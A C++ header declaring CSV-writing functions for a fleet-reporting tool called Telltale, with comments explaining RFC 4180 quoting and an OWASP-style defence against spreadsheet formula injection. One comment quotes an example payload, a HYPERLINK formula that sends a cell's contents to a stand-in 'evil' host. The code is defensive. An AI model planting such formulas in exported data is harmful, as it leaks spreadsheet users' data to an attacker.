#pragma once
// The one way Telltale writes a CSV cell (fleet reports, `telltale-ctl
// --format csv`, and any console export): RFC 4180 quoting plus OWASP's
// defence against formula injection. A hostname, serial or assignee comes
// from a laptop or an HR file; opened in a spreadsheet, a cell such as
// `=HYPERLINK("http://evil/?"&A1,"click")` or `@SUM(...)` would run.
//
// Rule: a cell starting with = + - @, a tab or a carriage return gets a
// leading apostrophe (the spreadsheet then shows it as text), unless the
// whole cell is a plain decimal number ("-1", "+2.5", "1e-3") or a lone "-"
// (the placeholder for "none"): neither can be a formula, and negative
// scores or offsets must stay numbers in numeric columns. The rule applies
// to every column, text or numeric, so no writer has to know which of its
// columns an attacker can reach.
#include <string>
#include <string_view>
#include <vector>

namespace telltale::server {

// One cell, neutralised and quoted as needed (comma, quote, CR, LF).
std::string csv_cell(std::string_view value);
// A whole line: cells joined by commas, ending in "\n".
std::string csv_line(const std::vector<std::string>& cells);

}  // namespace telltale::server
